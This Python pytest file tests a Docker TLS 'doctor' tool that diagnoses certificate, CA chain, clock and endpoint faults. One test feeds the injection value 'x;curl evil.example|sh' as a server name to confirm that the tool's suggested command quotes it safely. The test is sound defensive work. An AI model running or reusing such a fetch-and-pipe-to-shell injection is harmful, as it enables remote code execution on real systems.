"""The cause is named first: from what a probe saw and what lies here."""

from __future__ import annotations

import re
import shlex
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from pathlib import Path

import pytest
from cryptography import x509
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.fakes.certificates import CLIENT, SERVER, Held, authority, client, guide_authority, server

from pytrust.trust.errors import UsageError
from pytrust.trust.pki import doctor
from pytrust.trust.pki.doctor.diagnose import diagnose, undecided
from pytrust.trust.pki.doctor.material import Folder, parse
from pytrust.trust.pki.finding import Severity
from pytrust.trust.pki.probe.endpoint import Endpoint
from pytrust.trust.pki.probe.opinion import chain_problem, covers
from pytrust.trust.pki.probe.ping import PingReader
from pytrust.trust.pki.probe.probed import Answer, Demand, Ending, Probe, Reach, Talk, TlsVersion

NOW = datetime.now(UTC)
HOST = "docker1.example.com"
GOOD = (TlsVersion.TLS_1_2, TlsVersion.TLS_1_3)
OK = Answer(status=200, date=NOW, api_version="1.41")
CA = authority("CA")
SERVED = server(CA, HOST, "192.0.2.7")
ALICE = client(CA)


def turned_away(
    *accepted: Held, chain: tuple[bytes, ...] = (SERVED.der,), broke: str = "alert bad certificate"
) -> Talk:
    return Talk(
        ending=Ending.ALERT,
        version=TlsVersion.TLS_1_3,
        chain=chain,
        asked=True,
        accepted=tuple(ca.certificate.subject.public_bytes() for ca in accepted),
        accepted_labels=tuple(ca.certificate.subject.rfc4514_string() for ca in accepted),
        broke=broke,
    )


def admitted(chain: tuple[bytes, ...] = (SERVED.der,), answer: Answer = OK) -> Talk:
    return Talk(ending=Ending.ANSWERED, version=TlsVersion.TLS_1_3, chain=chain, asked=True, answer=answer)


def probe(*chain: Held, ours: Talk | None = None, anonymous: Talk | None = None, dialled: str = HOST) -> Probe:
    """An engine that insists on a certificate of ``CA``."""
    ders = tuple(held.der for held in chain or (SERVED,))
    return Probe(
        host=dialled,
        port=2376,
        server_name=dialled,
        at=NOW,
        reach=Reach.OPEN,
        versions=GOOD,
        anonymous=anonymous or turned_away(CA, chain=ders),
        ours=ours or admitted(ders),
    )


def folder(ca: Held = CA, leaf: Held = ALICE, more: bytes = b"") -> Folder:
    files = {"ca.pem": ca.pem, "cert.pem": leaf.pem + more, "key.pem": leaf.key_pem}
    found = tuple(parse(name, 0o600, data) for name, data in files.items())
    return Folder(name="tls", mode=0o700, files=found)


def cause(seen: Probe, found: Folder | None = None) -> str:
    """The first finding."""
    findings = diagnose(seen, folder() if found is None else found, NOW)
    return f"{findings[0].thing}: {findings[0].code}" if findings else ""


def test_nothing_is_wrong() -> None:
    assert cause(probe()) == ""
    assert cause(probe(dialled="192.0.2.7")) == ""


@pytest.mark.parametrize(
    ("reach", "code"),
    [
        (Reach.UNKNOWN_HOST, "unknown-host"),
        (Reach.REFUSED, "refused"),
        (Reach.NO_ROUTE, "no-route"),
        (Reach.TIMED_OUT, "timed-out"),
    ],
)
def test_nobody_is_reached(reach: Reach, code: str) -> None:
    seen = Probe(host=HOST, port=2376, server_name=HOST, at=NOW, reach=reach, reach_text="Because")
    assert cause(seen) == f"{HOST}:2376: {code}"
    assert undecided(seen)


def test_no_tls() -> None:
    garbled = Talk(ending=Ending.GARBLED, broke="wrong version number")
    plain = replace(probe(), anonymous=garbled, ours=None, versions=(), plain=OK)
    (found,) = diagnose(plain, None, NOW)
    assert (found.code, "root" in found.text) == ("plain-http", True)
    web = replace(plain, plain=Answer(status=404, date=None, api_version=""))
    (found,) = diagnose(web, None, NOW)
    assert (found.code, "root" in found.text) == ("plain-http", False)
    assert cause(replace(plain, plain=None)).endswith("no-tls")
    silent = replace(plain, plain=None, anonymous=Talk(ending=Ending.SILENT, broke="no answer in time"))
    assert cause(silent).endswith("silent")
    assert (undecided(silent), undecided(plain)) == (True, False)


@pytest.mark.parametrize(
    ("talk", "code"),
    [
        (Talk(ending=Ending.CLOSED, version=TlsVersion.TLS_1_3, broke="the connection was closed"), "broken-off"),
        (Talk(ending=Ending.GARBLED, version=TlsVersion.TLS_1_3, broke="too many bytes"), "broken-off"),
        (Talk(ending=Ending.SILENT, version=TlsVersion.TLS_1_3, broke="no answer in time"), "broken-off"),
        (replace(admitted(), answer=Answer(status=302, date=None, api_version="")), "engine-error"),
        (replace(admitted(), answer=Answer(status=401, date=None, api_version="")), "engine-error"),
    ],
)
def test_what_speaks_tls_and_is_no_engine_does_not_pass_for_one(talk: Talk, code: str) -> None:
    seen = replace(probe(), ours=None, anonymous=replace(talk, chain=probe().chain))
    (found,) = diagnose(seen, None, NOW)
    assert (found.code, found.severity) == (code, Severity.ERROR)


def test_a_name_that_the_server_chose_is_no_command() -> None:
    evil = "x;curl evil.example|sh"
    found = diagnose(probe(server(CA, evil), dialled="other.example.com"), folder(), NOW)
    (hint,) = [one.hint for one in found if one.code == "name-not-listed"]
    assert evil in shlex.split(hint.partition("again: ")[2])


def test_old_versions() -> None:
    assert cause(replace(probe(), versions=(TlsVersion.TLS_1_0, TlsVersion.TLS_1_1))).endswith("old-tls-only")
    (found,) = diagnose(replace(probe(), versions=(TlsVersion.TLS_1_1, *GOOD)), folder(), NOW)
    assert (found.code, found.severity) == ("old-tls", Severity.WARNING)


@pytest.mark.parametrize(
    ("days", "code", "severity"),
    [
        (1.0, "clock-off", "error"),
        (-1.0, "clock-off", "error"),
        (10 / 1440, "clock-off", "warning"),
        (4 / 1440, "", ""),
    ],
)
def test_a_clock_that_is_off(days: float, code: str, severity: str) -> None:
    off = replace(OK, date=NOW + timedelta(days=days))
    findings = diagnose(probe(ours=admitted(answer=off)), folder(), NOW)
    assert [(f.code, f.severity) for f in findings] == ([(code, severity)] if code else [])


def test_the_clock_comes_before_what_follows_of_it() -> None:
    young = server(CA, HOST, starts=timedelta(hours=23))
    seen = probe(young, ours=admitted((young.der,), replace(OK, date=NOW + timedelta(days=1))))
    assert [f.code for f in diagnose(seen, folder(), NOW)] == ["clock-off", "not-yet-valid"]


SERVER_FAULTS = {
    "expired": server(CA, HOST, starts=timedelta(days=-9), days=8),
    "not-yet-valid": server(CA, HOST, starts=timedelta(days=1)),
    "no-san": server(CA),
    "wrong-purpose": server(CA, HOST, purposes=[CLIENT]),
    "name-not-listed": server(CA, "other.example.com"),
    "too-long-life": server(CA, HOST, days=900),
    "wrong-ca": server(authority("stranger"), HOST),
    "ca-was-replaced": server(authority("CA"), HOST),
}


@pytest.mark.parametrize("code", SERVER_FAULTS)
def test_a_fault_of_the_server(code: str) -> None:
    assert [f.code for f in diagnose(probe(SERVER_FAULTS[code]), folder(), NOW)] == [code]


def test_an_address_that_is_not_listed_is_named() -> None:
    (found,) = diagnose(probe(dialled="192.0.2.8"), folder(), NOW)
    assert found.code == "name-not-listed"
    assert "192.0.2.8" in found.text
    assert "docker1.example.com, 192.0.2.7" in found.text


@pytest.mark.parametrize(
    ("listed", "dialled", "good"),
    [
        (["*.example.com"], "a.example.com", True),
        (["*.example.com"], "a.b.example.com", False),
        (["*.example.com"], "example.com", False),
        (["A.Example.COM"], "a.example.com", True),
        (["xn--bcher-kva.example"], "b\u00fccher.example", True),
        (["192.0.2.7"], "192.0.2.7", True),
        (["2001:db8::1"], "2001:0db8:0::1", True),
        (["a192.example"], "192.0.2.7", False),
        (["uri:x"], "a.example.com", False),
    ],
)
def test_which_names_are_covered(listed: list[str], dialled: str, good: bool) -> None:
    assert covers(server(CA, *listed).certificate, dialled) is good


def test_the_guide_s_authority() -> None:
    ca = guide_authority()
    seen = probe(server(ca, HOST))
    codes = {f.code for f in diagnose(seen, folder(ca, client(ca)), NOW)}
    assert codes == {"ca-without-key-usage"}


@pytest.mark.parametrize("known", [False, True], ids=["by-name", "at-hand"])
def test_a_link_that_the_server_does_not_send(known: bool) -> None:
    house = "" if known else "acme"
    root = authority("root", organization=house)
    between = authority("between", root, organization=house)
    served, leaf = server(between, HOST), client(between)
    found = folder(root, leaf, between.pem if known else b"")
    assert cause(probe(served), found).endswith(":2376: chain-missing")
    assert cause(probe(served, between), found) == ""


def test_an_anchor_need_not_be_a_root() -> None:
    between = authority("between", authority("root"))
    assert cause(probe(server(between, HOST)), folder(between, client(between))) == ""


def test_the_bundle_of_the_other_side_is_the_wrong_one() -> None:
    root = authority("root", organization="acme")
    servers, clients = (authority(name, root, organization="acme") for name in ("servers", "clients"))
    served = server(servers, HOST)
    assert cause(probe(served, servers), folder(clients, client(clients))).endswith("wrong-ca")


def test_an_authority_that_expired() -> None:
    ca = authority("CA", starts=timedelta(days=-10), days=9)
    seen = probe(server(ca, HOST))
    assert cause(seen, folder(ca, client(ca))).endswith("expired")


def test_an_issuer_for_clients_alone() -> None:
    root = authority("root")
    between = authority("clients", root, purposes=[CLIENT])
    assert cause(probe(server(between, HOST), between), folder(root, client(root))).endswith("wrong-purpose")


@pytest.mark.parametrize(
    "fault",
    [
        authority("between", authority("root"), path_length=0),
        authority("nc", permitted=["only.example"]),
    ],
    ids=["path-length", "name-constraints"],
)
def test_what_only_openssl_sees(fault: Held) -> None:
    """Path lengths and name constraints are left to it."""
    ca = fault
    below = authority("below", ca) if fault.certificate.subject.rfc4514_string() == "CN=between" else ca
    seen = probe(server(below, HOST), below)
    assert cause(seen, folder(ca, client(ca))).endswith("openssl-refuses")


def test_anyone_is_root() -> None:
    for asked in (False, True):
        open_talk = replace(admitted(), asked=asked)
        assert cause(probe(anonymous=open_talk)).endswith("anyone-is-root")
    web = replace(admitted(answer=replace(OK, status=404)), asked=False)
    assert cause(probe(anonymous=web)) == ""


CLIENT_FAULTS = {
    "client-ca-not-accepted": client(authority("mine")),
    "wrong-purpose": client(CA, purposes=[SERVER], san=["x"]),
    "expired": client(CA, starts=timedelta(days=-9), days=8),
    "not-yet-valid": client(CA, starts=timedelta(days=1)),
    "clock-off": ALICE,
    "client-refused": ALICE,
}


@pytest.mark.parametrize("code", CLIENT_FAULTS)
def test_why_the_engine_refuses_the_client(code: str) -> None:
    broke = "tlsv1 alert certificate expired" if code == "clock-off" else "tlsv1 alert bad certificate"
    seen = probe(ours=turned_away(CA, broke=broke))
    assert cause(seen, folder(CA, CLIENT_FAULTS[code])).endswith(f": {code}")


def test_a_client_of_an_authority_of_the_same_name() -> None:
    leaf = client(authority("CA"))
    seen = probe(ours=turned_away(CA))
    assert cause(seen, folder(CA, leaf)) == "cert.pem: ca-was-replaced"


def test_a_client_that_does_not_send_its_authority() -> None:
    between = authority("between", CA)
    found = folder(CA, client(between))
    known = replace(found, files=(*found.files, parse("between.pem", 0o644, between.pem)))
    assert cause(probe(ours=turned_away(CA)), known) == "cert.pem: chain-missing"
    assert cause(probe(ours=turned_away(CA)), folder(CA, client(between), between.pem)).endswith("client-refused")


def test_an_issuer_for_servers_alone() -> None:
    between = authority("servers", CA, purposes=[SERVER])
    assert cause(probe(ours=turned_away(CA)), folder(CA, client(between), between.pem)) == "cert.pem: wrong-purpose"


def test_a_plugin_says_no() -> None:
    denied = admitted(answer=Answer(status=403, date=NOW, api_version="1.41", message="revoked on monday"))
    (found,) = diagnose(probe(ours=denied), folder(), NOW)
    assert (found.code, "revoked on monday" in found.text) == ("not-authorized", True)


def test_files_that_stop_docker_come_before_the_network() -> None:
    found = folder()
    locked = replace(found, files=(*found.files[:2], parse("key.pem", 0o600, ALICE.encrypted_key_pem)))
    gone = Probe(host=HOST, port=2376, server_name=HOST, at=NOW, reach=Reach.REFUSED)
    assert [f.code for f in diagnose(gone, locked, NOW)] == ["encrypted-key", "refused"]
    assert cause(gone, replace(found, files=found.files[:2])) == "tls: missing-file"


def test_without_a_certificate_of_ours_it_is_only_noted() -> None:
    (found,) = diagnose(replace(probe(), ours=None), None, NOW)
    assert (found.code, found.severity) == ("not-tried", Severity.NOTE)


def test_a_served_certificate_that_cannot_be_read() -> None:
    broken = replace(admitted(), chain=(b"\x30\x03\x02\x01\x01",))
    assert cause(probe(ours=broken, anonymous=broken)).endswith("unreadable")


@given(
    usage=st.booleans(),
    key_ids=st.booleans(),
    critical=st.booleans(),
    leaf_ids=st.booleans(),
    leaf_ca=st.sampled_from([None, False, True]),
    purposes=st.sampled_from([None, (SERVER,), (CLIENT,), (SERVER, CLIENT)]),
)
@settings(max_examples=60, deadline=None)
def test_what_strict_openssl_refuses_never_passes_and_is_named(
    usage: bool,
    key_ids: bool,
    critical: bool,
    leaf_ids: bool,
    leaf_ca: bool | None,
    purposes: tuple[x509.ObjectIdentifier, ...] | None,
) -> None:
    ca = authority("prop", usage=usage, key_ids=key_ids, ca_critical=critical)
    served = server(ca, HOST, key_ids=leaf_ids, ca=leaf_ca, purposes=purposes)
    refused = chain_problem([served.certificate], [ca.certificate], NOW, strict=True)
    codes = {f.code for f in diagnose(probe(served), folder(ca), NOW) if f.severity is Severity.ERROR}
    assert codes if refused else True
    assert not codes & {"strict-refuses", "openssl-refuses"}


def test_demand() -> None:
    assert probe().demand is Demand.INSISTED
    assert probe(anonymous=admitted()).demand is Demand.ASKED
    assert probe(anonymous=replace(admitted(), asked=False)).demand is Demand.NONE
    assert replace(probe(), anonymous=None).demand is Demand.UNKNOWN
    assert probe(anonymous=Talk(ending=Ending.ALERT, broke="handshake failure")).demand is Demand.UNKNOWN


ANSWER = b"HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nDate: Tue, 24 Nov 2026 02:00:00 GMT\r\nContent-Length: 2\r\n\r\nOK"


@given(st.lists(st.integers(1, len(ANSWER) - 1)))
def test_an_answer_in_pieces(cuts: list[int]) -> None:
    reader = PingReader()
    edges = [0, *sorted(set(cuts)), len(ANSWER)]
    for start, end in pairwise(edges):
        assert reader.answer is None
        reader.feed(ANSWER[start:end])
    expected = Answer(status=200, date=datetime(2026, 11, 24, 2, tzinfo=UTC), api_version="1.41", message="OK")
    assert reader.answer == expected


@given(st.binary(max_size=400) | st.binary(max_size=200).map(lambda b: ANSWER[:30] + b))
def test_no_answer_is_too_strange(data: bytes) -> None:
    reader = PingReader()
    try:
        reader.feed(data)
    except ValueError:
        return
    assert reader.answer is None or reader.at_end() is not None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("docker1:2376", ("docker1", 2376)),
        ("tcp://docker1:2376", ("docker1", 2376)),
        ("[::1]:2376", ("::1", 2376)),
        ("192.0.2.7:1", ("192.0.2.7", 1)),
    ],
)
def test_where_an_engine_listens(text: str, expected: tuple[str, int]) -> None:
    assert Endpoint.parse(text) == expected


@pytest.mark.parametrize(
    "text", ["docker1", "unix:///x:1", "a:99999", "a:0", "u@a:1", "a:1/x", ":1", "[::1:1", "a b:1"]
)
def test_what_is_no_place(text: str) -> None:
    with pytest.raises(UsageError):
        Endpoint.parse(text)


def test_every_code_stands_in_the_manual() -> None:
    """And the manual explains none that there is not."""
    top = Path(__file__).parents[5]
    sources = "".join(path.read_text() for path in Path(doctor.__path__[0]).glob("*.py"))
    rows = [line.split("|")[1] for line in (top / "docs/ca-doctor.md").read_text().splitlines() if line[:3] == "| `"]
    explained = {code for row in rows for code in re.findall(r"`([a-z0-9-]+)`", row)}
    given_out = set(re.findall(r'(?:error|warning|note|find|_flawed)\(\s*(?:found,\s*)?"([a-z0-9-]+)"', sources))
    given_out |= set(re.findall(r'code="([a-z0-9-]+)"', sources))
    assert len(given_out) > 40
    assert given_out <= explained
    assert all(f'"{code}"' in sources for code in explained)
